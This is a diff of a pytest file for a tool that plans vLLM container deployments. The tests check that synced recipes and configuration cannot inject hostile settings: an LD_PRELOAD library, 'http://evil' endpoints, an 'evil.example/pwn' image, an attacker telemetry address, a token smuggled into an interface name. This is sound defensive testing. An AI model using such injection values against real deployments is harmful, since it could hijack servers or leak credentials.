@@ -17,45 +17,25 @@ from glmkit.errors import UsageError
 from glmkit.host.settings import resolve_settings
 from glmkit.knowledge.recipes import BUILTIN_ROOT
 from glmkit.render.compose import compose_dict, dump
-from tests.unit.helpers import NO_GPU, plan_here
+from tests.unit.helpers import file_args, plan_from
 
 ROOT = Path(__file__).resolve().parents[2]
-SECRET = "hf_SECRETVALUE_1234"
-
-
-@pytest.fixture
-def env(tmp_path: Path) -> dict[str, str]:
-    (tmp_path / "hf").mkdir()
-    return {"GLMKIT_HOME": str(tmp_path / "kit"), "HF_HOME": str(tmp_path / "hf"),
-            "HF_TOKEN": SECRET, "VLLM_API_KEY": SECRET}
-
-
-def _plan(env: dict[str, str], flags: dict[str, Any] | None = None,
-          config: dict[str, Any] | None = None, **kwargs: Any) -> Any:
-    settings, _ = resolve_settings({**(flags or {}), **kwargs}, config or {}, env)
-    return plan_here(settings, NO_GPU, env)
-
-
-def _file_args(plan: Any) -> list[str]:
-    """The container's command as Compose will run it: the file read back, `$$` → `$`."""
-    data = yaml.safe_load(dump(compose_dict(plan)))
-    return [a.replace("$$", "$") for a in data["services"]["vllm"]["command"]]
 
 
 # --- 1. `$` is escaped for Compose ------------------------------------------------------------
 
 @pytest.mark.parametrize("value", ["${HF_TOKEN}", "$HF_TOKEN", "a$$b", "${VLLM_API_KEY:-x}"])
 def test_dollars_reach_the_container_as_written(env: dict[str, str], value: str) -> None:
-    plan = _plan(env, extra_args=("--chat-template-content-format", value))
+    plan = plan_from(env, extra_args=("--chat-template-content-format", value))
     text = dump(compose_dict(plan))
     assert value.replace("$", "$$") in text
-    assert _file_args(plan)[-2:] == ["--chat-template-content-format", value]
+    assert file_args(plan)[-2:] == ["--chat-template-content-format", value]
 
 
 def test_every_string_of_the_file_is_escaped(env: dict[str, str], tmp_path: Path) -> None:
     cache = tmp_path / "cache$HOME"
     cache.mkdir()
-    plan = _plan(env, hf_cache=str(cache))
+    plan = plan_from(env, hf_cache=str(cache))
     data = yaml.safe_load(dump(compose_dict(plan)))
     assert data["services"]["vllm"]["volumes"][0]["source"] == str(cache).replace("$", "$$")
 
@@ -112,7 +92,7 @@ def test_an_apostrophe_is_no_traceback(monkeypatch: pytest.MonkeyPatch, tmp_path
 def test_reserved_secret_prefix_and_unknown_flags_are_refused(env: dict[str, str],
                                                               words: list[str]) -> None:
     with pytest.raises(UsageError):
-        _plan(env, extra_args=tuple(words))
+        plan_from(env, extra_args=tuple(words))
 
 
 
@@ -121,10 +101,10 @@ def test_reserved_secret_prefix_and_unknown_flags_are_refused(env: dict[str, str
 
 def test_invoke_yaml_and_environment_cannot_ask_for_code(env: dict[str, str]) -> None:
     with pytest.raises(UsageError, match="invoke.yaml"):
-        _plan(env, config={"extra_args": ["--trust-remote-code"]})
+        plan_from(env, config={"extra_args": ["--trust-remote-code"]})
     with pytest.raises(UsageError, match="GLMKIT_EXTRA_ARGS"):
-        _plan({**env, "GLMKIT_EXTRA_ARGS": "--middleware evil.M"})
-    assert "--trust-remote-code" in _plan(env, extra_args=("--trust-remote-code",)).serve_args
+        plan_from({**env, "GLMKIT_EXTRA_ARGS": "--middleware evil.M"})
+    assert "--trust-remote-code" in plan_from(env, extra_args=("--trust-remote-code",)).serve_args
 
 
 
@@ -147,7 +127,7 @@ def test_a_synced_recipe_is_data_not_an_instruction(env: dict[str, str]) -> None
                                 "http://evil", "--tool-call-parser", "glm45"],
                   "base_env": {"LD_PRELOAD": "/x.so", "HF_ENDPOINT": "http://evil",
                                "VLLM_USE_DEEP_GEMM": "1"}})
-    plan = _plan(env, vendor="cuda", model="zai-org/GLM-4.6", gpu="h200", gpu_count=8)
+    plan = plan_from(env, vendor="cuda", model="zai-org/GLM-4.6", gpu="h200", gpu_count=8)
     args = " ".join(plan.serve_args)
     for bad in ("stolen", "--api-key", "--port 1 ", "--trust-remote-code", "/x.py", "evil",
                 "--allowed-local-media-path"):
@@ -156,13 +136,13 @@ def test_a_synced_recipe_is_data_not_an_instruction(env: dict[str, str]) -> None
     assert plan.environment["VLLM_USE_DEEP_GEMM"] == "1"
     assert any("loads code" in n for n in plan.notes)
     # The person at the terminal may still ask for the repository's code.
-    plan = _plan(env, vendor="cuda", model="zai-org/GLM-4.6", gpu="h200", gpu_count=8,
+    plan = plan_from(env, vendor="cuda", model="zai-org/GLM-4.6", gpu="h200", gpu_count=8,
                  extra_args=("--trust-remote-code",))
     assert "--trust-remote-code" in plan.serve_args
 
 
 def test_built_in_recipes_keep_trust_remote_code(env: dict[str, str]) -> None:
-    plan = _plan(env, vendor="cuda", model="zai-org/GLM-4.6", gpu="h200", gpu_count=8)
+    plan = plan_from(env, vendor="cuda", model="zai-org/GLM-4.6", gpu="h200", gpu_count=8)
     assert "--trust-remote-code" in plan.serve_args
     assert "--allowed-local-media-path" not in plan.serve_args
 
@@ -173,27 +153,27 @@ def test_built_in_recipes_keep_trust_remote_code(env: dict[str, str]) -> None:
 def test_hf_cache_and_media_dir_pass_the_mount_policy(env: dict[str, str],
                                                       tmp_path: Path) -> None:
     with pytest.raises(UsageError, match="system folder"):
-        _plan(env, hf_cache="/")
+        plan_from(env, hf_cache="/")
     with pytest.raises(UsageError, match="system folder"):
-        _plan({**env, "HF_HOME": str(Path.home())})
+        plan_from({**env, "HF_HOME": str(Path.home())})
     with pytest.raises(UsageError, match="system folder"):
-        _plan(env, vendor="cuda", model="zai-org/GLM-4.6V", gpu="h200", gpu_count=8,
+        plan_from(env, vendor="cuda", model="zai-org/GLM-4.6V", gpu="h200", gpu_count=8,
               media_dir="/")
     os.chdir(tmp_path)
-    plan = _plan(env, hf_cache="relative-cache")
+    plan = plan_from(env, hf_cache="relative-cache")
     assert plan.mounts[0].source == str(tmp_path / "relative-cache")
 
 
 def test_ifname_is_an_interface_name(env: dict[str, str]) -> None:
     with pytest.raises(UsageError, match="ifname"):
-        _plan(env, ifname="eth0${HF_TOKEN}")
+        plan_from(env, ifname="eth0${HF_TOKEN}")
 
 
 # --- found by a hostile review of the first fix ---------------------------------------------
 
 def test_a_synced_recipe_cannot_choose_the_image(env: dict[str, str]) -> None:
     _synced(env, {"docker_image": "evil.example/pwn:v0.33.0"})
-    plan = _plan(env, vendor="cuda", model="zai-org/GLM-4.6", gpu="h200", gpu_count=8)
+    plan = plan_from(env, vendor="cuda", model="zai-org/GLM-4.6", gpu="h200", gpu_count=8)
     assert plan.image.ref.startswith("vllm/vllm-openai:")
     assert "not an official vLLM image" in " ".join(plan.notes)
 
@@ -205,7 +185,7 @@ def test_synced_strategies_are_synced_data_too(env: dict[str, str]) -> None:
     data["vllm_args"] = ["--otlp-traces-endpoint", "http://203.0.113.9:4317",
                          "--enable-log-requests", "--tokenizer", "attacker/tok"]
     strategy.write_text(yaml.safe_dump(data))
-    plan = _plan(env, vendor="cuda", model="zai-org/GLM-4.5", gpu="h200", gpu_count=8)
+    plan = plan_from(env, vendor="cuda", model="zai-org/GLM-4.5", gpu="h200", gpu_count=8)
     for bad in ("--otlp-traces-endpoint", "--enable-log-requests", "attacker/tok",
                 "--trust-remote-code"):
         assert bad not in plan.serve_args
@@ -219,7 +199,7 @@ def test_synced_strategies_are_synced_data_too(env: dict[str, str]) -> None:
 ])
 def test_nested_code_keys_need_the_command_line(env: dict[str, str], extra: str) -> None:
     with pytest.raises(UsageError, match="loads code"):
-        _plan({**env, "GLMKIT_EXTRA_ARGS": extra})
+        plan_from({**env, "GLMKIT_EXTRA_ARGS": extra})
 
 
 @pytest.mark.parametrize("config", [{"privileged": True}, {"image": "-x"},
@@ -227,28 +207,28 @@ def test_nested_code_keys_need_the_command_line(env: dict[str, str], extra: str)
 def test_invoke_yaml_cannot_make_the_container_root_or_pass_options(
         env: dict[str, str], config: dict[str, Any]) -> None:
     with pytest.raises(UsageError):
-        _plan(env, config=config)
+        plan_from(env, config=config)
 
 
 @pytest.mark.parametrize("path", ["/var/lib", "/home", "/var/spool/cron", "/var/lib/kubelet"])
 def test_folders_that_hold_other_secrets_are_not_mounted(env: dict[str, str],
                                                          path: str) -> None:
     with pytest.raises(UsageError, match="system folder"):
-        _plan(env, hf_cache=path)
+        plan_from(env, hf_cache=path)
 
 
 def test_a_symlink_loop_is_one_line(env: dict[str, str], tmp_path: Path) -> None:
     (tmp_path / "loop-a").symlink_to(tmp_path / "loop-b")
     (tmp_path / "loop-b").symlink_to(tmp_path / "loop-a")
     with pytest.raises(UsageError):
-        _plan(env, hf_cache=str(tmp_path / "loop-a"))
+        plan_from(env, hf_cache=str(tmp_path / "loop-a"))
 
 
 @pytest.mark.parametrize("flag", ["--master-addr", "--node-rank", "--nnodes",
                                   "--data-parallel-address"])
 def test_where_nodes_meet_is_glmkits(env: dict[str, str], flag: str) -> None:
     with pytest.raises(UsageError, match="set by glmkit"):
-        _plan(env, extra_args=(flag, "1"))
+        plan_from(env, extra_args=(flag, "1"))
 
 
 # --- found by the independent review ----------------------------------------------------------
